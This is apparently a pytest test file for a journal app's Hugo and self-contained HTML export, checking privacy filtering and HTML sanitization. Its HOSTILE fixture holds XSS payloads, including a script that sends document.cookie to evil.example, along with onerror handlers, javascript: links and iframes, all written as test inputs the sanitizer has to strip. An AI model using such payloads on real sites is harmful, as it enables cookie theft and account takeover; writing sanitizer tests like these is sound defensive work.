"""hugo (public entries, front matter Hugo builds) and html (one self-contained page)."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess

import pytest

from journal_app.errors import InvalidInput
from journal_app.services.transfer.common import split_front_matter
from journal_app.services.transfer.service import TransferService

from .conftest import add_entry, png


@pytest.fixture
def published(journal):
    public = add_entry(
        journal,
        dt.date(2026, 3, 10),
        "Backprop by hand",
        "Worked it out. #private-note #ml\n\n```python\nx = 1  # fine\n```\n",
        tags=["ml", "private", "_draft"],
        visibility="public",
        series="Self Study Journal",
        number=6,
    )
    image = journal.attachments.add_image(public.id, png(5, 6, 7))
    journal.entries.update(
        public.id,
        expected_rev=public.rev,
        body=f"{public.body}\n![graph]({image.url})\n[paper](https://arxiv.org/abs/1)\n",
    )
    add_entry(journal, dt.date(2026, 3, 11), "Diary", "private thoughts")
    return journal


def test_hugo_export_holds_public_entries_with_private_tags_stripped(published, tmp_path):
    result = TransferService(published).export_to("hugo", tmp_path / "content")
    assert result.counts == {"entries": 1, "attachments": 1}
    bundle = tmp_path / "content/journal/2026-03-10-backprop-by-hand"
    meta, body = split_front_matter((bundle / "index.md").read_text(), "x")
    assert meta == {
        "title": "Backprop by hand",
        "date": "2026-03-10",
        "draft": False,
        "tags": ["ml"],
        "series": ["Self Study Journal"],
        "number": 6,
    }
    assert "#private-note" not in body and "#ml" in body
    assert "# fine" in body  # code is left alone
    [image] = [p for p in bundle.iterdir() if p.suffix == ".png"]
    assert f"![graph]({image.name})" in body
    assert "Diary" not in "".join(p.read_text() for p in tmp_path.rglob("*.md"))


@pytest.mark.skipif(shutil.which("hugo") is None, reason="hugo is not installed")
def test_hugo_builds_a_site_from_the_export(published, tmp_path):
    site = tmp_path / "site"
    (site / "layouts/_default").mkdir(parents=True)
    (site / "hugo.toml").write_text(
        'baseURL = "https://example.org/"\ntitle = "Journal"\ndisableKinds = ["RSS", "sitemap"]\n'
    )
    (site / "layouts/_default/single.html").write_text(
        '<h1>{{ .Title }}</h1><p>{{ .Date.Format "2006-01-02" }} {{ .Params.tags }}</p>'
        "{{ .Content }}"
    )
    (site / "layouts/_default/list.html").write_text(
        '{{ range .Pages }}<a href="{{ .RelPermalink }}">{{ .Title }}</a>{{ end }}'
    )
    TransferService(published).export_to("hugo", site / "content")
    run = subprocess.run(
        ["hugo", "--source", str(site), "--destination", str(site / "public")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    page = (site / "public/journal/2026-03-10-backprop-by-hand/index.html").read_text()
    assert "<h1>Backprop by hand</h1>" in page and "2026-03-10 [ml]" in page
    assert "Worked it out." in page
    assert list((site / "public/journal/2026-03-10-backprop-by-hand").glob("*.png"))


def test_html_of_one_entry_is_self_contained(published, tmp_path):
    entry_id = published.entries.summaries()[-1].id
    out = tmp_path / "entry.html"
    TransferService(published).export_to("html", out, entry_id=entry_id)
    page = out.read_text()
    assert "<title>Backprop by hand</title>" in page and "<style>" in page
    assert 'src="data:image/png;base64,' in page
    # No resource is fetched from anywhere: no remote src, no stylesheet/script links.
    assert not re.search(r"""\bsrc\s*=\s*["']?(https?:)?//""", page, re.I)
    assert not re.search(r"<(link|script|iframe|object|embed)\b", page, re.I)
    assert not re.search(r"url\(\s*['\"]?(https?:)?//", page, re.I)
    assert "default-src 'none'" in page
    assert '<a href="https://arxiv.org/abs/1"' in page  # a link to click is not a resource


def test_html_of_a_date_range(published, tmp_path):
    out = tmp_path / "range.html"
    result = TransferService(published).export_to(
        "html", out, first=dt.date(2026, 3, 11), last=dt.date(2026, 3, 31)
    )
    page = out.read_text()
    assert result.counts == {"entries": 1}
    assert "Diary" in page and "Backprop" not in page
    with pytest.raises(InvalidInput, match="before it starts"):
        TransferService(published).export_to(
            "html", out, first=dt.date(2026, 3, 11), last=dt.date(2026, 3, 1)
        )


HOSTILE = (
    "Hello <b>there</b>.\n\n"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
    '<img src="x" onerror="alert(1)"> <IMG/src=x/onerror=alert(2)>\n'
    '<a href="javascript:alert(3)">click</a> <iframe src="https://evil.example"></iframe>\n'
    '<div onclick="alert(4)" style="position:fixed">boxed</div>\n'
    "<!-- hidden <img src=x onerror=alert(5)> -->\n\n"
    "A real link <https://example.com> and `a < b` in code.\n\n"
    "```html\n<script>console.log('a code sample stays')</script>\n```\n"
)


def test_the_hugo_export_and_blog_markdown_sanitize_raw_html(journal, tmp_path):
    from journal_app.services.transfer.publish import blog_markdown

    entry = add_entry(journal, dt.date(2026, 3, 12), "Hostile", HOSTILE, visibility="public")
    TransferService(journal).export_to("hugo", tmp_path / "content")
    page = (tmp_path / "content/journal/2026-03-12-hostile/index.md").read_text()
    for text in (page, blog_markdown(entry.id)):
        prose, code = text.split("```html\n")
        assert "&lt;IMG/src=x/onerror=alert(2)>" in prose  # not a tag: shown as text
        tags = prose.replace("&lt;IMG/src=x/onerror=alert(2)>", "").lower()
        for needle in ("<script", "<iframe", "onerror", "onclick", "javascript:", "style=", "<!--"):
            assert needle not in tags, needle
        assert "<img>" in prose
        assert "Hello <b>there</b>." in prose and "<div>boxed</div>" in prose
        assert "<https://example.com>" in prose
        assert code == "<script>console.log('a code sample stays')</script>\n```\n"
